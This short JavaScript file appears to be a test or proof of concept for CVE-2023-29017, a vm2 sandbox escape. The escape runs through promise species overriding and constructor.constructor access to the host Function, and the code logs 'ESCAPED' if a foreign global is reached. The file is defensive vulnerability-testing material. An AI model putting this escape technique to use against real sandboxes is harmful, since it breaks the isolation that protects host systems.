// Makes promises whose constructor is the program's, and awaits them across the host
// Source: CVE-2023-29017 (vm2: asynchronous errors reach the host)
async function fails() { await null; throw { get stack() { return look(this); } }; }
function look(value) {
  const f = value.constructor.constructor;
  try {
    if (f('return this')() !== globalThis) console.log('ESCAPED: another global object');
  } catch (e) {}
  return 'stack';
}
const promise = fails();
promise.constructor = { [Symbol.species]: class { constructor(executor) { executor(look, look); } } };
promise.then(look, look);
